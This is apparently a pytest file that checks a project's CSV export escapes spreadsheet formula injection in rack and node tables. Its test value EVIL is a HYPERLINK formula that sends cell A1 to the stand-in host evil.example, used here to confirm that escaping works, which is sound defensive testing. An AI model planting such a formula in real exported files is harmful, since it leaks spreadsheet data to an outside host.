"""Test tables that are opened in a spreadsheet: no name in them is evaluated as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nodes.models import RackPlace
from tests.lab import bearer, signed_in, sysadmin
from vigil_core import csv_text

ROOT = Path(__file__).parents[2]
EVIL = '=HYPERLINK("https://evil.example/?"&A1;"click")'


@pytest.mark.parametrize("text", [EVIL, "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "＝1"])  # noqa: RUF001
def test_a_formula_is_written_as_text(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_text.write([[text, -1, 2.5, None, "dgx-01"]]), newline=""))
    assert row == [f"'{text}", "-1", "2.5", "", "dgx-01"]


def test_a_carriage_return_begins_no_row() -> None:
    assert csv_text.write([["a\r=1", 2]]) == '"a\n=1",2\n'


@given(st.text(st.characters(exclude_characters="\r"), max_size=12))
def test_what_is_written_is_read_again(text: str) -> None:
    assert csv_text.read_cell(str(csv_text.cell(text))) == text


@pytest.mark.django_db
def test_racks_are_escaped_on_the_page_and_over_rest() -> None:
    RackPlace.objects.create(node="dgx-01", rack=EVIL, slot=-3)
    sam = sysadmin()
    page = signed_in(sam).get("/racks?format=csv").content.decode()
    rest = bearer(sam).get("/api/v1/racks", headers={"Accept": "text/csv"}).content.decode()
    assert page == rest
    assert [*csv.reader(io.StringIO(page))][1] == ["dgx-01", f"'{EVIL}", "-3", "0"]


def test_there_is_a_single_writer() -> None:
    folders = ("console", "jobs", "nodes", "portal", "vigil_cli", "vigil_core")
    files = (path for folder in folders for path in (ROOT / folder).rglob("*.py"))
    assert [path.name for path in files if "csv.writer(" in path.read_text()] == ["csv_text.py"]
